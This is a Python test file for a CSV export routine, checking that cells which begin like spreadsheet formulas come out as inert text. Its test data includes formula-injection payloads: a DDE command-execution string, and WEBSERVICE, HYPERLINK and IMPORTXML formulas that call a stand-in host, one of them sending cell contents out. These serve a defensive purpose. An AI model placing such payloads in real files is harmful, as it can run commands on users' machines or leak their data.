"""Exports hold data that no spreadsheet runs (FILE-5)."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from reporting.export import csv_lines


def read_back(rows: list[list[str | int | float | None]]) -> list[list[str]]:
    """What a reader of the file finds."""
    text = b"".join(csv_lines(rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_that_looks_like_a_formula_is_text() -> None:
    """FILE-5: cells that begin like formulas get an apostrophe."""
    dangerous = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for cell in dangerous:
        assert read_back([[cell]]) == [["'" + cell]]


def test_file_5_none_of_fifty_formulas_runs() -> None:
    """FILE-5, attack 35: every way to begin a formula before every way to go on with it."""
    begins = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff20")
    bodies = (
        'HYPERLINK("http://canary.example","pay")',
        "cmd|'/C calc'!A0",
        'WEBSERVICE("http://canary.example/"&A1)',
        "SUM(1;1)*cmd|'/C calc'!A0",
        'IMPORTXML("http://canary.example";"//a")',
    )
    cells = [begin + body for begin in begins for body in bodies]
    assert len(cells) == 50
    rows: list[list[str | int | float | None]] = [[cell, 1] for cell in cells]
    found = read_back(rows)
    assert [row[0] for row in found] == ["'" + cell for cell in cells]
    assert all(row[1] == "1" for row in found)


def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
    assert read_back([[-1, 0.5, None, "plain"]]) == [["-1", "0.5", "", "plain"]]


@given(st.text(max_size=50).filter(lambda text: "\0" not in text))
def test_no_cell_begins_a_formula(text: str) -> None:
    found = read_back([[text, "end"]])
    cell = found[0][0]
    assert cell.removeprefix("'") == text or cell == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
